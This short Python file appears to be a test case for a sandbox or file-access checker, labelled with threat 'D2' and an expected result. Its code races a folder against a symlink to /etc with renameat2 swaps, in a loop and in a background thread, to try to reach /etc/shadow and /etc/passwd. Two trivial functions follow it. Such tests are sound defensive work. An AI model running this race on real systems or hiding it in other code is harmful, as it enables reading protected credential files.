# tries: folders and links exchanged as fast as it goes while answers travel
# threat: D2
# expect: passed
# says: swapped
# race: yes

import ctypes
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs('/tmp/a', exist_ok=True)
open('/tmp/a/tasks.py', 'w').close()
os.symlink('/etc', '/tmp/b')
swapped = 0
for _ in range(300):
    swapped += libc.renameat2(-100, b'/tmp/a', -100, b'/tmp/b', 2) == 0
for path in ('/tmp/a/shadow', '/tmp/b/shadow', '/tmp/a/passwd', '/tmp/b/passwd'):
    if os.path.exists(path):
        print('REACHED', path)
print('swapped', flush=True)


def churn():
    while True:
        libc.renameat2(-100, b'/tmp/a', -100, b'/tmp/b', 2)


threading.Thread(target=churn, daemon=True).start()


def double(x):
    return 2 * x


def reverse(text):
    return text[::-1]
